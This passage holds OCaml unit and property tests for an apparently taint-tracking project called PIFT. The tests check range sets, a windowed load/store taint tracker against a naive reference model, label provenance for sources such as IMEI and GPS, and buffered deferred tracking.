  List.iteri (fun i c -> Jarray.set Jarray.Chars h src i c) [ 10; 20; 30; 40 ];
  ignore (run_native env Api.array_copy [ src; 1; dst; 0; 3 ]);
  checki "copied elem" 20 (Jarray.get Jarray.Chars h dst 0);
  checki "copied elem 2" 40 (Jarray.get Jarray.Chars h dst 2)

let () =
  Alcotest.run "pift_runtime"
    [
      ( "heap",
        [
          Alcotest.test_case "allocator & classes" `Quick test_heap;
          Alcotest.test_case "strings" `Quick test_jstring;
          Alcotest.test_case "arrays" `Quick test_jarray;
        ] );
      ( "intrinsics",
        [
          Alcotest.test_case "char copy" `Quick test_char_copy;
          Alcotest.test_case "itoa values" `Quick test_itoa_values;
          Alcotest.test_case "transforms" `Quick test_transforms;
          Alcotest.test_case "deinterleave" `Quick test_deinterleave;
          Alcotest.test_case "fill & word copy" `Quick
            test_fill_and_word_copy;
        ] );
      ( "distances",
        [
          Alcotest.test_case "itoa = 10" `Quick test_itoa_distance;
          Alcotest.test_case "copies" `Quick test_char_copy_distance;
        ] );
      ("manager", [ Alcotest.test_case "hooks & verdicts" `Quick test_manager ]);
      ( "api",
        [
          Alcotest.test_case "strings" `Quick test_api_strings;
          Alcotest.test_case "string builder" `Quick test_api_string_builder;
          Alcotest.test_case "sources & sinks" `Quick test_api_sources_sinks;
          Alcotest.test_case "arraycopy" `Quick test_api_arraycopy;
          Alcotest.test_case "base64" `Quick test_api_base64;
        ] );
    ]
