(* Unit and property tests for Pift_util. *)

module Range = Pift_util.Range
module Histogram = Pift_util.Histogram
module Series = Pift_util.Series
module Rng = Pift_util.Rng
module Textplot = Pift_util.Textplot

let check = Alcotest.check
let checkb = Alcotest.(check bool)
let checki = Alcotest.(check int)

(* --- Range ------------------------------------------------------------- *)

let test_range_basics () =
  let r = Range.make 10 20 in
  checki "lo" 10 (Range.lo r);
  checki "hi" 20 (Range.hi r);
  checki "length" 11 (Range.length r);
  checki "byte length" 1 (Range.length (Range.byte 5));
  checki "of_len hi" 13 (Range.hi (Range.of_len 10 4));
  Alcotest.check_raises "hi < lo" (Invalid_argument "Range.make: hi < lo")
    (fun () -> ignore (Range.make 5 4));
  Alcotest.check_raises "negative"
    (Invalid_argument "Range.make: negative address") (fun () ->
      ignore (Range.make (-1) 4));
  Alcotest.check_raises "zero length"
    (Invalid_argument "Range.of_len: non-positive length") (fun () ->
      ignore (Range.of_len 0 0))

let test_range_overlaps () =
  let r a b = Range.make a b in
  checkb "identical" true (Range.overlaps (r 0 4) (r 0 4));
  checkb "partial" true (Range.overlaps (r 0 4) (r 4 8));
  checkb "contained" true (Range.overlaps (r 0 10) (r 3 5));
  checkb "disjoint" false (Range.overlaps (r 0 4) (r 5 8));
  checkb "adjacent yes" true (Range.adjacent (r 0 4) (r 5 8));
  checkb "adjacent sym" true (Range.adjacent (r 5 8) (r 0 4));
  checkb "adjacent no" false (Range.adjacent (r 0 4) (r 6 8));
  checkb "contains" true (Range.contains (r 3 7) 7);
  checkb "not contains" false (Range.contains (r 3 7) 8);
  checkb "covers" true (Range.covers (r 0 10) (r 3 5));
  checkb "covers not" false (Range.covers (r 3 5) (r 0 10))

let test_range_set_ops () =
  let r a b = Range.make a b in
  check (Alcotest.testable Range.pp Range.equal) "union" (r 0 8)
    (Range.union (r 0 4) (r 5 8));
  Alcotest.check_raises "disjoint union"
    (Invalid_argument "Range.union: disjoint ranges") (fun () ->
      ignore (Range.union (r 0 4) (r 6 8)));
  (match Range.inter (r 0 5) (r 3 9) with
  | Some i -> checkb "inter" true (Range.equal i (r 3 5))
  | None -> Alcotest.fail "expected intersection");
  checkb "no inter" true (Range.inter (r 0 2) (r 3 4) = None);
  checki "subtract middle" 2 (List.length (Range.subtract (r 0 10) (r 3 5)));
  checki "subtract all" 0 (List.length (Range.subtract (r 3 5) (r 0 10)));
  checki "subtract left" 1 (List.length (Range.subtract (r 0 10) (r 0 5)));
  checki "subtract disjoint" 1
    (List.length (Range.subtract (r 0 4) (r 8 9)))

let range_gen =
  QCheck2.Gen.(
    let* lo = int_range 0 200 in
    let* len = int_range 1 50 in
    return (Range.of_len lo len))

let prop_subtract_disjoint =
  QCheck2.Test.make ~name:"subtract pieces never overlap the cut"
    ~count:500
    QCheck2.Gen.(pair range_gen range_gen)
    (fun (a, b) ->
      List.for_all (fun p -> not (Range.overlaps p b)) (Range.subtract a b))

let prop_subtract_preserves =
  QCheck2.Test.make ~name:"subtract preserves exactly a \\ b" ~count:500
    QCheck2.Gen.(pair range_gen range_gen)
    (fun (a, b) ->
      let pieces = Range.subtract a b in
      let member x =
        List.exists (fun p -> Range.contains p x) pieces
      in
      let ok = ref true in
      for x = Range.lo a to Range.hi a do
        let expect = not (Range.contains b x) in
        if member x <> expect then ok := false
      done;
      !ok)

let prop_overlap_naive =
  QCheck2.Test.make ~name:"overlaps agrees with the naive definition"
    ~count:500
    QCheck2.Gen.(pair range_gen range_gen)
    (fun (a, b) ->
      let naive = ref false in
      for x = Range.lo a to Range.hi a do
        if Range.contains b x then naive := true
      done;
      Range.overlaps a b = !naive)

(* --- Histogram ---------------------------------------------------------- *)

let test_histogram () =
  let h = Histogram.create () in
  checkb "empty" true (Histogram.is_empty h);
  Histogram.add h 3;
  Histogram.add h 3;
  Histogram.add_many h 7 2;
  checki "count 3" 2 (Histogram.count h 3);
  checki "count 7" 2 (Histogram.count h 7);
  checki "count miss" 0 (Histogram.count h 4);
  checki "total" 4 (Histogram.total h);
  Alcotest.(check (float 1e-9)) "pdf" 0.5 (Histogram.pdf h 3);
  Alcotest.(check (float 1e-9)) "cdf mid" 0.5 (Histogram.cdf h 5);
  Alcotest.(check (float 1e-9)) "cdf all" 1.0 (Histogram.cdf h 7);
  Alcotest.(check (float 1e-9)) "mean" 5.0 (Histogram.mean h);
  checki "min" 3 (Histogram.min_value h);
  checki "max" 7 (Histogram.max_value h);
  checki "p50" 3 (Histogram.percentile h 0.5);
  checki "p100" 7 (Histogram.percentile h 1.0);
  checki "bindings" 2 (List.length (Histogram.bindings h));
  let h2 = Histogram.merge h h in
  checki "merge total" 8 (Histogram.total h2)

let test_histogram_errors () =
  let h = Histogram.create () in
  Alcotest.check_raises "percentile empty"
    (Invalid_argument "Histogram.percentile: empty") (fun () ->
      ignore (Histogram.percentile h 0.5));
  Alcotest.check_raises "max empty"
    (Invalid_argument "Histogram.max_value: empty") (fun () ->
      ignore (Histogram.max_value h))

(* --- Series ------------------------------------------------------------- *)

let test_series () =
  let s = Series.create ~name:"x" () in
  Alcotest.(check string) "name" "x" (Series.name s);
  checkb "empty last" true (Series.last_value s = None);
  Series.record s ~time:1 ~value:10;
  Series.record s ~time:5 ~value:20;
  Series.record_if_changed s ~time:6 ~value:20;
  Series.record_if_changed s ~time:7 ~value:30;
  checki "length" 3 (Series.length s);
  checkb "last" true (Series.last_value s = Some 30);
  checkb "max" true (Series.max_value s = Some 30);
  checki "value before" 0 (Series.value_at s 0);
  checki "value at 1" 10 (Series.value_at s 1);
  checki "value mid" 10 (Series.value_at s 4);
  checki "value 5" 20 (Series.value_at s 6);
  checki "value after" 30 (Series.value_at s 100);
  Alcotest.check_raises "time backwards"
    (Invalid_argument "Series.record: time going backwards") (fun () ->
      Series.record s ~time:2 ~value:1)

let test_series_downsample () =
  let s = Series.create () in
  for i = 0 to 99 do
    Series.record s ~time:i ~value:(i * 2)
  done;
  let d = Series.downsample s 10 in
  checki "downsample size" 10 (List.length d);
  let last_t, last_v = List.nth d 9 in
  checki "last time" 99 last_t;
  checki "last value" 198 last_v;
  checki "small passthrough" 100 (List.length (Series.downsample s 200))

(* --- Rng ---------------------------------------------------------------- *)

let test_rng () =
  let a = Rng.create 7 and b = Rng.create 7 in
  let seq r = List.init 20 (fun _ -> Rng.int r 1000) in
  checkb "deterministic" true (seq a = seq b);
  let r = Rng.create 1 in
  for _ = 1 to 1000 do
    let v = Rng.int r 10 in
    checkb "bound" true (v >= 0 && v < 10);
    let w = Rng.int_in r 5 9 in
    checkb "int_in" true (w >= 5 && w <= 9)
  done;
  let arr = Array.init 50 Fun.id in
  Rng.shuffle r arr;
  let sorted = Array.copy arr in
  Array.sort compare sorted;
  checkb "shuffle is a permutation" true (sorted = Array.init 50 Fun.id);
  checkb "pick member" true (Array.exists (Int.equal (Rng.pick r arr)) arr);
  let r2 = Rng.split r in
  checkb "split independent" true (Rng.int r 1000 >= 0 && Rng.int r2 1000 >= 0)

(* --- Textplot ------------------------------------------------------------ *)

let render f =
  let buf = Buffer.create 256 in
  let ppf = Format.formatter_of_buffer buf in
  f ppf;
  Format.pp_print_flush ppf ();
  Buffer.contents buf

let contains haystack needle =
  let n = String.length needle and h = String.length haystack in
  let rec go i =
    if i + n > h then false
    else String.sub haystack i n = needle || go (i + 1)
  in
  go 0

let test_textplot () =
  let out =
    render (fun ppf ->
        Textplot.bar_chart ~title:"bars" [ ("a", 1.); ("b", 2.) ] ppf ())
  in
  checkb "bar chart has title" true (contains out "bars");
  checkb "bar chart has labels" true (contains out "a" && contains out "b");
  let h = Histogram.create () in
  List.iter (Histogram.add h) [ 1; 1; 2; 40 ];
  let out = render (fun ppf -> Textplot.distribution ~title:"d" h ppf ()) in
  checkb "distribution overflow row" true (contains out ">30")

let test_heatmap () =
  let out =
    render (fun ppf ->
        Textplot.heatmap ~title:"h" ~row_label:"r" ~col_label:"c"
          ~rows:[ 1; 2 ] ~cols:[ 1; 2; 3 ]
          (fun ~row ~col -> float_of_int (row * col))
          ppf ())
  in
  checkb "heatmap non-empty" true (String.length out > 20)

let qsuite = List.map QCheck_alcotest.to_alcotest
  [ prop_subtract_disjoint; prop_subtract_preserves; prop_overlap_naive ]

let () =
  Alcotest.run "pift_util"
    [
      ( "range",
        [
          Alcotest.test_case "basics" `Quick test_range_basics;
          Alcotest.test_case "overlaps" `Quick test_range_overlaps;
          Alcotest.test_case "set ops" `Quick test_range_set_ops;
        ] );
      ("range-properties", qsuite);
      ( "histogram",
        [
          Alcotest.test_case "counting" `Quick test_histogram;
          Alcotest.test_case "errors" `Quick test_histogram_errors;
        ] );
      ( "series",
        [
          Alcotest.test_case "recording" `Quick test_series;
          Alcotest.test_case "downsample" `Quick test_series_downsample;
        ] );
      ("rng", [ Alcotest.test_case "behaviour" `Quick test_rng ]);
      ( "textplot",
        [
          Alcotest.test_case "charts" `Quick test_textplot;
          Alcotest.test_case "heatmap" `Quick test_heatmap;
        ] );
    ]
