(* Unit and property tests for Pift_core: policy, range set, Algorithm 1
   tracker (differential against the naive reference), hardware storage. *)

module Range = Pift_util.Range
module Policy = Pift_core.Policy
module Range_set = Pift_core.Range_set
module Tracker = Pift_core.Tracker
module Reference = Pift_core.Reference
module Storage = Pift_core.Storage
module Store = Pift_core.Store
module Hw_model = Pift_core.Hw_model
module Event = Pift_trace.Event
module Insn = Pift_arm.Insn

let checkb = Alcotest.(check bool)
let checki = Alcotest.(check int)
let r a b = Range.make a b

(* --- Policy ------------------------------------------------------------- *)

let test_policy () =
  let p = Policy.make ~ni:5 ~nt:2 () in
  checki "ni" 5 p.Policy.ni;
  checki "nt" 2 p.Policy.nt;
  checkb "untaint default" true p.Policy.untaint;
  checki "default ni" 13 Policy.default.Policy.ni;
  checki "default nt" 3 Policy.default.Policy.nt;
  checki "malware ni" 3 Policy.malware_catching.Policy.ni;
  checki "perfect ni" 18 Policy.perfect_droidbench.Policy.ni;
  Alcotest.check_raises "ni >= 1" (Invalid_argument "Policy.make: ni must be >= 1")
    (fun () -> ignore (Policy.make ~ni:0 ~nt:1 ()));
  Alcotest.check_raises "nt >= 1" (Invalid_argument "Policy.make: nt must be >= 1")
    (fun () -> ignore (Policy.make ~ni:1 ~nt:0 ()))

(* --- Range_set ----------------------------------------------------------- *)

let test_range_set_basic () =
  let s = Range_set.empty in
  checkb "empty" true (Range_set.is_empty s);
  let s = Range_set.add s (r 10 20) in
  checki "cardinal" 1 (Range_set.cardinal s);
  checki "bytes" 11 (Range_set.total_bytes s);
  checkb "overlap hit" true (Range_set.mem_overlap s (r 20 25));
  checkb "overlap miss" false (Range_set.mem_overlap s (r 21 25));
  checkb "covers" true (Range_set.covers s (r 12 18));
  checkb "covers not" false (Range_set.covers s (r 12 21))

let test_range_set_coalesce () =
  let s = Range_set.of_list [ r 0 4; r 10 14 ] in
  checki "two ranges" 2 (Range_set.cardinal s);
  (* overlapping merge *)
  let s1 = Range_set.add s (r 3 11) in
  checki "merged" 1 (Range_set.cardinal s1);
  checki "merged bytes" 15 (Range_set.total_bytes s1);
  (* adjacent merge *)
  let s2 = Range_set.add s (r 5 9) in
  checki "adjacent merged" 1 (Range_set.cardinal s2);
  (* non-touching insert *)
  let s3 = Range_set.add s (r 20 24) in
  checki "separate" 3 (Range_set.cardinal s3)

let test_range_set_remove () =
  let s = Range_set.of_list [ r 0 20 ] in
  let s1 = Range_set.remove s (r 5 10) in
  checki "split count" 2 (Range_set.cardinal s1);
  checki "split bytes" 15 (Range_set.total_bytes s1);
  checkb "left alive" true (Range_set.mem_overlap s1 (r 0 4));
  checkb "cut dead" false (Range_set.mem_overlap s1 (r 5 10));
  checkb "right alive" true (Range_set.mem_overlap s1 (r 11 20));
  let s2 = Range_set.remove s (r 0 20) in
  checkb "remove all" true (Range_set.is_empty s2);
  let s3 = Range_set.remove s (r 100 110) in
  checki "remove disjoint" 1 (Range_set.cardinal s3);
  (* removal spanning multiple entries *)
  let s4 = Range_set.of_list [ r 0 4; r 10 14; r 20 24 ] in
  let s5 = Range_set.remove s4 (r 2 22) in
  checki "multi-cut" 2 (Range_set.cardinal s5);
  checki "multi-cut bytes" 4 (Range_set.total_bytes s5)

(* Differential property: Range_set vs a per-byte Hashtbl model. *)
let op_gen =
  QCheck2.Gen.(
    let range_g =
      let* lo = int_range 0 120 in
      let* len = int_range 1 24 in
      return (Range.of_len lo len)
    in
    let* op = int_range 0 2 in
    let* range = range_g in
    return (op, range))

let prop_range_set_model =
  QCheck2.Test.make ~name:"range set agrees with a per-byte model"
    ~count:300
    QCheck2.Gen.(list_size (int_range 1 60) op_gen)
    (fun ops ->
      let model = Hashtbl.create 64 in
      let set = ref Range_set.empty in
      let ok = ref true in
      List.iter
        (fun (op, range) ->
          match op with
          | 0 ->
              set := Range_set.add !set range;
              for x = Range.lo range to Range.hi range do
                Hashtbl.replace model x ()
              done
          | 1 ->
              set := Range_set.remove !set range;
              for x = Range.lo range to Range.hi range do
                Hashtbl.remove model x
              done
          | _ ->
              let naive = ref false in
              for x = Range.lo range to Range.hi range do
                if Hashtbl.mem model x then naive := true
              done;
              if Range_set.mem_overlap !set range <> !naive then ok := false)
        ops;
      (* final invariants: byte count matches; ranges disjoint and
         non-adjacent (canonical form) *)
      if Range_set.total_bytes !set <> Hashtbl.length model then ok := false;
      let rec disjoint = function
        | a :: (b :: _ as rest) ->
            Range.hi a + 1 < Range.lo b && disjoint rest
        | [ _ ] | [] -> true
      in
      if not (disjoint (Range_set.ranges !set)) then ok := false;
      !ok)

(* --- Tracker: Algorithm 1 scenarios -------------------------------------- *)

let load range k =
  { Event.seq = k; k; pid = 1; insn = Insn.Nop; access = Event.Load range }

let store range k =
  { Event.seq = k; k; pid = 1; insn = Insn.Nop; access = Event.Store range }

let other k =
  { Event.seq = k; k; pid = 1; insn = Insn.Nop; access = Event.Other }

let feed tracker events = List.iter (Tracker.observe tracker) events

let test_tracker_window () =
  let t = Tracker.create ~policy:(Policy.make ~ni:3 ~nt:2 ()) () in
  Tracker.taint_source t ~pid:1 (r 100 110);
  (* tainted load opens a window; store at distance 2 is tainted *)
  feed t [ load (r 100 101) 1; other 2; store (r 200 203) 3 ];
  checkb "in-window store tainted" true
    (Tracker.is_tainted t ~pid:1 (r 200 203));
  (* store at distance 5 > NI: untainted instead *)
  feed t [ store (r 200 201) 6 ];
  checkb "outside window untaints" false
    (Tracker.is_tainted t ~pid:1 (r 200 201));
  checkb "rest of range still tainted" true
    (Tracker.is_tainted t ~pid:1 (r 202 203))

let test_tracker_nt_cap () =
  let t = Tracker.create ~policy:(Policy.make ~ni:10 ~nt:2 ()) () in
  Tracker.taint_source t ~pid:1 (r 100 110);
  feed t
    [
      load (r 100 101) 1;
      store (r 200 200) 2;
      store (r 210 210) 3;
      store (r 220 220) 4;
    ];
  checkb "store 1 tainted" true (Tracker.is_tainted t ~pid:1 (r 200 200));
  checkb "store 2 tainted" true (Tracker.is_tainted t ~pid:1 (r 210 210));
  checkb "store 3 beyond NT" false (Tracker.is_tainted t ~pid:1 (r 220 220));
  let s = Tracker.stats t in
  checki "taint ops" 2 s.Tracker.taint_ops;
  checki "tainted loads" 1 s.Tracker.tainted_loads

let test_tracker_window_restart () =
  let t = Tracker.create ~policy:(Policy.make ~ni:4 ~nt:1 ()) () in
  Tracker.taint_source t ~pid:1 (r 100 110);
  feed t
    [
      load (r 100 100) 1;
      store (r 200 200) 2 (* nt exhausted *);
      load (r 105 105) 3 (* window restarts, nt resets *);
      store (r 210 210) 4;
    ];
  checkb "second window taints again" true
    (Tracker.is_tainted t ~pid:1 (r 210 210))

let test_tracker_untaint_disabled () =
  let t =
    Tracker.create ~policy:(Policy.make ~untaint:false ~ni:2 ~nt:1 ()) ()
  in
  Tracker.taint_source t ~pid:1 (r 100 110);
  feed t [ store (r 105 106) 1 ];
  checkb "no untaint when disabled" true
    (Tracker.is_tainted t ~pid:1 (r 105 106));
  let t2 =
    Tracker.create ~policy:(Policy.make ~untaint:true ~ni:2 ~nt:1 ()) ()
  in
  Tracker.taint_source t2 ~pid:1 (r 100 110);
  feed t2 [ store (r 105 106) 1 ];
  checkb "untaint when enabled" false
    (Tracker.is_tainted t2 ~pid:1 (r 105 106))

(* Fig. 15 plots tainted bytes over the instruction stream; an explicit
   untaint (e.g. a scrubbing intrinsic) must show up as a dip in the
   series, not just in a later event's sample.  untaint_range used to
   skip the peak/series update, so the dip was invisible until the next
   observed event — and absent entirely at end of trace. *)
let test_tracker_untaint_range_records_dip () =
  let module Series = Pift_util.Series in
  let t = Tracker.create ~policy:(Policy.make ~ni:3 ~nt:2 ()) () in
  Tracker.taint_source t ~pid:1 (r 100 199);
  feed t [ load (r 100 101) 1; store (r 300 303) 2 ];
  let series = Tracker.tainted_bytes_series t in
  let before = Option.get (Series.last_value series) in
  checki "bytes before untaint" 104 before;
  Tracker.untaint_range t ~pid:1 (r 150 199);
  checkb "range untainted" false (Tracker.is_tainted t ~pid:1 (r 150 199));
  checki "series records the dip" 54
    (Option.get (Series.last_value series));
  checki "peak survives the dip" 104
    (Tracker.stats t).Tracker.max_tainted_bytes

let test_tracker_per_pid () =
  let t = Tracker.create ~policy:(Policy.make ~ni:5 ~nt:1 ()) () in
  Tracker.taint_source t ~pid:1 (r 100 110);
  (* pid 2's load of the same addresses sees clean state *)
  Tracker.observe t
    { Event.seq = 1; k = 1; pid = 2; insn = Insn.Nop;
      access = Event.Load (r 100 101) };
  Tracker.observe t
    { Event.seq = 2; k = 2; pid = 2; insn = Insn.Nop;
      access = Event.Store (r 300 301) };
  checkb "no cross-pid window" false (Tracker.is_tainted t ~pid:2 (r 300 301));
  (* pid 1's window does not serve pid 2's stores *)
  Tracker.observe t
    { Event.seq = 3; k = 3; pid = 1; insn = Insn.Nop;
      access = Event.Load (r 100 101) };
  Tracker.observe t
    { Event.seq = 4; k = 4; pid = 2; insn = Insn.Nop;
      access = Event.Store (r 310 311) };
  checkb "window is per-process" false
    (Tracker.is_tainted t ~pid:2 (r 310 311))

(* Regression: a hand-built 10-event trace with known taint traffic must
   yield the same taint_ops/untaint_ops/lookups through the legacy
   [stats] record and the [pift_tracker_*] metrics registry. *)
let test_tracker_ten_event_counts () =
  let registry = Pift_obs.Registry.create () in
  let t =
    Tracker.create ~policy:(Policy.make ~ni:4 ~nt:2 ()) ~metrics:registry ()
  in
  Tracker.taint_source t ~pid:1 (r 100 120);
  feed t
    [
      load (r 100 101) 1 (* tainted load: window opens *);
      other 2;
      store (r 200 203) 3 (* taint op 1 *);
      store (r 210 211) 4 (* taint op 2: NT reached *);
      store (r 220 221) 5 (* NT exhausted, clean target: no-op *);
      load (r 50 51) 6 (* clean lookup *);
      store (r 200 201) 7 (* outside window, tainted target: untaint *);
      load (r 210 210) 8 (* tainted load: window restarts *);
      store (r 230 231) 9 (* taint op 3 *);
      other 10;
    ];
  let s = Tracker.stats t in
  checki "events" 10 s.Tracker.events;
  checki "lookups" 3 s.Tracker.lookups;
  checki "tainted loads" 2 s.Tracker.tainted_loads;
  checki "taint ops" 3 s.Tracker.taint_ops;
  checki "untaint ops" 1 s.Tracker.untaint_ops;
  let metric name =
    Option.value ~default:(-1) (Pift_obs.Registry.find_counter registry name)
  in
  checki "metric events" s.Tracker.events (metric "pift_tracker_events_total");
  checki "metric lookups" s.Tracker.lookups
    (metric "pift_tracker_lookups_total");
  checki "metric tainted loads" s.Tracker.tainted_loads
    (metric "pift_tracker_tainted_loads_total");
  checki "metric taint ops" s.Tracker.taint_ops
    (metric "pift_tracker_taint_ops_total");
  checki "metric untaint ops" s.Tracker.untaint_ops
    (metric "pift_tracker_untaint_ops_total")

(* Differential property: Tracker vs the naive Reference on random event
   streams. *)
let events_gen =
  QCheck2.Gen.(
    let range_g =
      let* lo = int_range 0 100 in
      let* len = int_range 1 8 in
      return (Range.of_len lo len)
    in
    let event_g =
      let* kind = int_range 0 2 in
      let* range = range_g in
      return (kind, range)
    in
    list_size (int_range 1 120) event_g)

let prop_tracker_reference =
  QCheck2.Test.make ~name:"tracker agrees with the naive Algorithm 1 model"
    ~count:300
    QCheck2.Gen.(triple (int_range 1 8) (int_range 1 4) events_gen)
    (fun (ni, nt, events) ->
      let policy = Policy.make ~ni ~nt () in
      let tracker = Tracker.create ~policy () in
      let reference = Reference.create policy in
      Tracker.taint_source tracker ~pid:1 (r 0 10);
      Reference.taint_source reference ~pid:1 (r 0 10);
      let ok = ref true in
      List.iteri
        (fun i (kind, range) ->
          let k = i + 1 in
          let e =
            match kind with
            | 0 -> load range k
            | 1 -> store range k
            | _ -> other k
          in
          Tracker.observe tracker e;
          Reference.observe reference e)
        events;
      (* byte-exact agreement *)
      for x = 0 to 120 do
        if
          Tracker.is_tainted tracker ~pid:1 (Range.byte x)
          <> Reference.is_tainted reference ~pid:1 (Range.byte x)
        then ok := false
      done;
      let tracker_bytes =
        List.fold_left
          (fun acc range -> acc + Range.length range)
          0
          (Tracker.tainted_ranges tracker ~pid:1)
      in
      if tracker_bytes <> Reference.tainted_bytes reference then ok := false;
      !ok)

(* --- Provenance ------------------------------------------------------------ *)

module Provenance = Pift_core.Provenance

let test_provenance_labels () =
  let p = Provenance.create ~policy:(Policy.make ~ni:5 ~nt:2 ()) () in
  Provenance.taint_source p ~pid:1 ~label:"IMEI" (r 100 110);
  Provenance.taint_source p ~pid:1 ~label:"GPS" (r 200 210);
  let obs e = Provenance.observe p e in
  (* a load touching only the IMEI range propagates only that label *)
  obs (load (r 100 101) 1);
  obs (store (r 300 303) 2);
  checkb "imei label" true
    (Provenance.labels_of p ~pid:1 (r 300 303) = [ "IMEI" ]);
  (* a load spanning both propagates both *)
  Provenance.taint_source p ~pid:1 ~label:"GPS" (r 304 307);
  obs (load (r 104 106) 10);
  obs (load (r 204 206) 11);
  obs (store (r 400 403) 12);
  checkb "gps label" true
    (Provenance.labels_of p ~pid:1 (r 400 403) = [ "GPS" ]);
  checkb "is_tainted" true (Provenance.is_tainted p ~pid:1 (r 400 403));
  checkb "clean range" false (Provenance.is_tainted p ~pid:1 (r 500 501));
  checkb "all labels" true (Provenance.all_labels p = [ "GPS"; "IMEI" ]);
  checkb "bytes per label" true (Provenance.tainted_bytes p ~label:"IMEI" > 0)

let test_provenance_union_and_untaint () =
  let p = Provenance.create ~policy:(Policy.make ~ni:8 ~nt:2 ()) () in
  Provenance.taint_source p ~pid:1 ~label:"A" (r 0 10);
  Provenance.taint_source p ~pid:1 ~label:"B" (r 8 20);
  let obs e = Provenance.observe p e in
  (* load overlapping both label ranges -> stores carry the union *)
  obs (load (r 9 10) 1);
  obs (store (r 100 103) 2);
  checkb "union of labels" true
    (Provenance.labels_of p ~pid:1 (r 100 103) = [ "A"; "B" ]);
  (* out-of-window store untaints all labels *)
  obs (store (r 100 103) 50);
  checkb "untainted" false (Provenance.is_tainted p ~pid:1 (r 100 103));
  (* window semantics match the plain tracker *)
  let t = Tracker.create ~policy:(Policy.make ~ni:8 ~nt:2 ()) () in
  Tracker.taint_source t ~pid:1 (r 0 20);
  feed t [ load (r 9 10) 1; store (r 100 103) 2; store (r 100 103) 50 ];
  checkb "agrees with tracker" true
    (Tracker.is_tainted t ~pid:1 (r 100 103)
    = Provenance.is_tainted p ~pid:1 (r 100 103))

let test_provenance_nt_cap_merged_labels () =
  (* The NT store cap is a property of the window, not of any one
     label: a load spanning two label ranges opens one window carrying
     both, and each tainting store counts once against NT — not once
     per label.  Otherwise the per-label union would drift from the
     plain tracker's single-window state. *)
  let policy = Policy.make ~ni:20 ~nt:2 () in
  let p = Provenance.create ~policy () in
  Provenance.taint_source p ~pid:1 ~label:"A" (r 0 10);
  Provenance.taint_source p ~pid:1 ~label:"B" (r 8 20);
  let obs e = Provenance.observe p e in
  obs (load (r 9 10) 1);
  obs (store (r 100 103) 2);
  obs (store (r 200 203) 3);
  obs (store (r 300 303) 4);
  (* first two stores carry both labels, the third hits a closed window *)
  checkb "store 1 carries both" true
    (Provenance.labels_of p ~pid:1 (r 100 103) = [ "A"; "B" ]);
  checkb "store 2 carries both" true
    (Provenance.labels_of p ~pid:1 (r 200 203) = [ "A"; "B" ]);
  checkb "store 3 beyond NT is clean" false
    (Provenance.is_tainted p ~pid:1 (r 300 303));
  (* same cap as the plain tracker over the same events *)
  let t = Tracker.create ~policy () in
  Tracker.taint_source t ~pid:1 (r 0 20);
  feed t [ load (r 9 10) 1; store (r 100 103) 2; store (r 200 203) 3;
           store (r 300 303) 4 ];
  List.iter
    (fun range ->
      checkb "union matches tracker" true
        (Tracker.is_tainted t ~pid:1 range
        = Provenance.is_tainted p ~pid:1 range))
    [ r 100 103; r 200 203; r 300 303 ];
  (* a fresh load reopens the window with a fresh NT budget *)
  obs (load (r 0 1) 30);
  obs (store (r 300 303) 31);
  checkb "reopened window taints again" true
    (Provenance.labels_of p ~pid:1 (r 300 303) = [ "A" ])

let test_provenance_entries_sorted () =
  let p = Provenance.create ~policy:(Policy.make ~ni:5 ~nt:3 ()) () in
  Provenance.taint_source p ~pid:2 ~label:"Z" (r 50 60);
  Provenance.taint_source p ~pid:1 ~label:"B" (r 30 40);
  Provenance.taint_source p ~pid:1 ~label:"A" (r 300 310);
  Provenance.taint_source p ~pid:1 ~label:"A" (r 0 10);
  let keys = List.map fst (Provenance.entries p) in
  checkb "entries sorted by (pid, label)" true
    (keys = [ (1, "A"); (1, "B"); (2, "Z") ]);
  List.iter
    (fun (_, ranges) ->
      let los = List.map Range.lo ranges in
      checkb "ranges ascending" true (List.sort compare los = los))
    (Provenance.entries p);
  (* untaint_range splits per-label sets without touching other pids *)
  Provenance.untaint_range p ~pid:1 (r 4 6);
  checkb "untaint splits the A set" true
    (match List.assoc_opt (1, "A") (Provenance.entries p) with
    | Some ranges -> List.length ranges = 3
    | None -> false);
  checkb "other pid untouched" true
    (List.assoc_opt (2, "Z") (Provenance.entries p) = Some [ r 50 60 ])

let test_provenance_backends_agree () =
  (* identical event feed under every exact backend -> identical
     per-label entries *)
  let run backend =
    let p =
      Provenance.create ~policy:(Policy.make ~ni:6 ~nt:2 ()) ~backend ()
    in
    Provenance.taint_source p ~pid:1 ~label:"IMEI" (r 100 120);
    Provenance.taint_source p ~pid:1 ~label:"GPS" (r 115 130);
    List.iter (Provenance.observe p)
      [ load (r 116 118) 1; store (r 200 203) 2; store (r 210 213) 3;
        load (r 100 101) 10; store (r 220 223) 11 ];
    Provenance.untaint_range p ~pid:1 (r 211 212);
    Provenance.entries p
  in
  match List.map run Pift_core.Store.all_backends with
  | [] -> Alcotest.fail "no backends"
  | reference :: rest ->
      checkb "reference is non-trivial" true (List.length reference >= 2);
      List.iter
        (fun other -> checkb "backend-independent entries" true
            (other = reference))
        rest

(* --- Deferred (buffered) tracking ------------------------------------------ *)

module Deferred = Pift_core.Deferred

let test_deferred_equals_online () =
  (* with a big enough buffer, deferred check = online check *)
  let policy = Policy.make ~ni:3 ~nt:2 () in
  let events =
    [ load (r 100 101) 1; other 2; store (r 200 203) 3; store (r 300 301) 9 ]
  in
  let online = Tracker.create ~policy () in
  Tracker.taint_source online ~pid:1 (r 100 110);
  feed online events;
  let d = Deferred.create ~policy ~buffer_size:64 ~drain_batch:4 () in
  Deferred.taint_source d ~pid:1 (r 100 110);
  List.iter (Deferred.observe d) events;
  checkb "events buffered" true (Deferred.buffered d > 0);
  List.iter
    (fun range ->
      checkb "agrees with online" true
        (Deferred.check d ~pid:1 range = Tracker.is_tainted online ~pid:1 range))
    [ r 200 203; r 300 301; r 100 110 ];
  checki "no drops" 0 (Deferred.dropped d);
  checki "buffer drained by check" 0 (Deferred.buffered d)

let test_deferred_overflow_drops () =
  let d =
    Deferred.create ~policy:(Policy.make ~ni:3 ~nt:2 ()) ~buffer_size:2
      ~drain_batch:1 ()
  in
  Deferred.taint_source d ~pid:1 (r 100 110);
  (* three memory events into a 2-slot buffer: the tainted load (oldest)
     is dropped, so the in-window store is never tainted *)
  List.iter (Deferred.observe d)
    [ load (r 100 101) 1; other 2; store (r 200 203) 3; store (r 210 211) 4 ];
  checki "one drop" 1 (Deferred.dropped d);
  checkb "taint missed (FN, not FP)" false (Deferred.check d ~pid:1 (r 200 203))

let test_deferred_tick () =
  let d =
    Deferred.create ~policy:(Policy.make ~ni:3 ~nt:2 ()) ~buffer_size:64
      ~drain_batch:2 ()
  in
